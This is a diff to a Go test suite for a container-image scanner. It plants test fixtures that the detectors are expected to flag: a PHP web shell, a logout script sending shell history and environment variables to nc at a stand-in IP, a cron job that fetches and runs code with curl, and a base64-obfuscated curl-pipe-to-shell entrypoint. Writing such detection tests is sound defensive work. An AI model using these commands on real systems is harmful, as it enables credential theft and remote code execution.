@@ -575,6 +575,28 @@ func techniqueImages(t testing.TB, base v1.Layer) []plantedImage {
 		hit{rule: "executable-in-temp-or-hidden-dir", path: "/root/.local/share/.x/kworker", layer: 1},
 		hit{rule: "masquerade-kernel-thread-name", path: "/root/.local/share/.x/kworker", layer: 1})
 
+	// The second red-team pass's plants: a variable-function PHP shell, a
+	// logout file sending history to nc, a cron job downloading with curl
+	// -so and running it, an entrypoint script eval'ing decoded text; a
+	// PHP dispatcher calling a fixed name and a cron job downloading a file
+	// it does not run are not.
+	add("test/t-redteam2", func(cf *v1.ConfigFile) {
+		cf.Config.Entrypoint = []string{"/usr/local/bin/start-app"}
+	}, nil, one(
+		ent{name: "var/www/html/lib/cache.php", body: "<?php\n$k = 'system';\n$k($_POST['c']);\n"},
+		ent{name: "var/www/html/lib/route.php", body: "<?php\n$page = $_GET['p'];\n$fn = 'render_page';\n$fn('home');\n"},
+		ent{name: "root/.bash_logout", body: "(cat /root/.bash_history; env) | nc 198.51.100.93 9001 2>/dev/null\n"},
+		ent{name: "etc/cron.d/mandb", body: "*/30 * * * * root curl -so /var/tmp/mandb-update http://198.51.100.96/u && sh /var/tmp/mandb-update\n"},
+		ent{name: "etc/cron.d/geoip", body: "0 3 * * * root curl -so /var/lib/geoip/db.mmdb https://geo.example/db.mmdb\n"},
+		ent{name: "usr/local/bin/start-app", mode: 0o755, body: "#!/bin/sh\nX=\"Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC45Ny9pIHwgc2g=\"\neval \"$(printf '%s' \"$X\" | base64 -d)\"\nexec /usr/local/bin/app\n"}),
+		hit{rule: "web-shell", path: "/var/www/html/lib/cache.php", layer: 1},
+		hit{rule: "script-uploads-credentials", path: "/root/.bash_logout", layer: 1},
+		hit{rule: "persistence-point", path: "/root/.bash_logout", layer: 1},
+		hit{rule: "autostart-fetches-code", path: "/etc/cron.d/mandb", layer: 1},
+		hit{rule: "persistence-point", path: "/etc/cron.d/mandb", layer: 1},
+		hit{rule: "persistence-point", path: "/etc/cron.d/geoip", layer: 1},
+		hit{rule: "startup-script-fetches-code", path: "/usr/local/bin/start-app", layer: 1})
+
 	// A miner's dropper clearing the host: rivals killed by CPU share and by
 	// name, crontabs removed, MSRs rewritten and huge pages reserved; an
 	// application's restart script killing its own workers, by name and by
